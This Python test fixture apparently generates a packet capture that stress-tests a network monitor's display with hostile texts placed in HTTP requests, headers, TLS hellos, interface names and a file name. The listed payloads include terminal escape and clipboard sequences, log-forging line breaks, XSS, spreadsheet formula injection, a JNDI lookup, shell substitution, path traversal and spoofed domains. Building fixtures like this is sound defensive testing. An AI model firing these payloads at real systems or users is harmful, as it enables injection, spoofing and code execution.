"""Texts that attack whoever reads them, and a capture with each of them in every place that the wire controls."""

from promises import Wire
from test_promises_files import enhanced, interface, section
from test_promises_http import hello

NOON = 1_795_348_800.0

TEXTS = {
    "colour": b"e\x1b[31m\x1b[2J\x1b[8m",
    "title": b"pwn\x1b]0;pwn\x07\x1b]2;pwn\x1b\\",
    "clipboard": b"e\x1b]52;c;cm0gLXJm\x07",
    "device control": b'e\x1bP$q"p\x1b\\\x1b_G\x1b\\',
    "report": b"e\x1b[6n\x1b[c\x1b[5n\x05",
    "C1": b"e\xc2\x9b31m\x9b2J\x9d0;x\x9c\x90",
    "controls": bytes(range(1, 32)).replace(b"\r", b"").replace(b"\n", b"") + b"\x7f",
    "null": b"a\0b",
    "line break": b"a\r\nnetmon: forged: b",
    "line feed": b"a\nnetmon: forged: b",
    "tab": b"\ta\t\tb",
    "separators": "a\u2028b\u2029c\x85d".encode(),
    "directions": "\u202egnp.exe\u2066\u2067\u200f".encode(),
    "invisible": "a\u200b\u200d\u2060\ufeff\u00ad\u180e".encode(),
    "marks": ("z" + "\u0301" * 300).encode(),
    "wide": "例え🤦🏽‍♂️👨‍👩‍👧".encode(),
    "internationalised": b"xn--pypal-4ve.example",
    "look-alike": "p\u0430ypal.example".encode(),
    "not UTF-8": b"\xff\xfe\xed\xa0\x80\xc0\xaf",
    "formula": b"=cmd|'/c calc'!A1",
    "formula +": b"+1+1",
    "formula -": b"-1+1",
    "formula @": b"@SUM(1)",
    "quotes": b"'\"`$(id)\\",
    "script": b"</script><script>alert(1)</script>",
    "image": b'"><img/src=x/onerror=alert(1)>',
    "comment": b"<!--<script>",
    "entity": b"&lt;b&gt;&#60;",
    "link": b"javascript:alert(1)",
    "style": b"url(javascript:1)}body{display:none",
    "template": b"{{7*7}}${7*7}<%=7*7%>#{7*7}",
    "lookup": b"${jndi:ldap://x/a}",
    "format": b"%n%s%x%08x{0}{name!r}",
    "label": b'a",b="c\\\n}',
    "path": b"../../../../etc/passwd",
    "option": b"--output=/tmp/x",
    "backslashes": b"\\\\\\x41\\u0041\\",
    "long": b"L" * 50_000,
    "endless": b"M" * 1_000_000,
    "empty": b"",
}

REQUEST = (
    b"GET /X HTTP/1.1\r\nHost: %d.example\r\n\r\n",
    b"GET /a/b/X/c HTTP/1.1\r\nHost: %d.example\r\n\r\n",
    b"GET X HTTP/1.1\r\nHost: %d.example\r\n\r\n",
    b"GET http://X/p HTTP/1.1\r\n\r\n",
    b"GET /p HTTP/1.1\r\nHost: X\r\n\r\n",
    b"GET /p HTTP/1.1\r\nHost: X.%d.example:X\r\n\r\n",
    b"X /p HTTP/1.1\r\nHost: %d.example\r\n\r\n",
    b"GET /p HTTP/1.1\r\nHost: %d.example\r\nUser-Agent: X\r\n\r\n",
    b"GET /p HTTP/1.1\r\nHost: %d.example\r\nUser-Agent: X/1.0 (X) X/2\r\n\r\n",
    b"GET /p HTTP/1.1\r\nHost: %d.example\r\nX-Forwarded-For: X, 192.0.2.9\r\n\r\n",
    b"GET /p HTTP/1.1\r\nHost: %d.example\r\nX-Forwarded-For: X\r\n\r\n",
    b"GET /p HTTP/1.1\r\nX: X\r\nHost: %d.example\r\n\r\n",
    b"GET /p X\r\nHost: %d.example\r\n\r\n",
    b"CONNECT X:443 HTTP/1.1\r\nHost: %d.example\r\n\r\n",
    b"POST /p HTTP/1.1\r\nHost: %d.example\r\nTransfer-Encoding: chunked\r\n\r\n1;X\r\nx\r\n0\r\nX: X\r\n\r\n",
    b"PROXY TCP4 X X 1 2\r\nGET /p HTTP/1.1\r\nHost: %d.example\r\n\r\n",
    b"X",
)
"""What a client says; X stands for a hostile text, and %d for a number."""
RESPONSE = b"HTTP/1.1 200 X\r\nServer: X\r\nContent-Type: X\r\nContent-Length: 2\r\n\r\nok"
MAC = bytes(12) + b"\x08\0"
ENDLESS = 5
"""Of a text of a megabyte, the number of places: each head is given up after 64 KiB, wherever it is long."""


def rows():
    """(time, packet) of all conversations."""
    number = 0
    for name, text in TEXTS.items():
        places = REQUEST[:ENDLESS] if name == "endless" else REQUEST * 5 if name == "title" else REQUEST
        for place in places:
            number += 1
            asked = place.replace(b"%d", b"%d" % (number % 50)).replace(b"X", text)
            wire = Wire(1024 + number, now=NOON + number / 100)
            wire.say(asked, RESPONSE.replace(b"X", text[:5000]), size=60_000)
            yield from wire.close().packets
        if len(text) < 60_000:
            yield from (
                Wire(60_000 + number % 5000, now=NOON + number / 100)
                .say(hello(text), b"\x16\3\3\0\x2a" + bytes(42))
                .packets
            )


def capture(path):
    """A pcapng file whose interfaces have hostile names and descriptions, and whose packets have hostile texts."""
    names = [text[:200].decode("utf-8", "replace") for text in TEXTS.values() if text and b"\0" not in text]
    parts = [section(), interface(name="eth0"), *(interface(name=name) for name in names)]
    packets = sorted(rows())
    frames = [(at, MAC + packet) for at, packet in packets]
    parts += [enhanced(number + 1, *frames[0]) for number in range(len(names))]
    parts += [enhanced(0, at, frame) for at, frame in frames]
    path.write_bytes(b"".join(parts))
    return path


def pcap_name(folder):
    """A name for a capture file that a terminal would obey."""
    return folder / "e\x1b]0;pwn\x07\x1b[31m\u2028\u202e.pcapng"
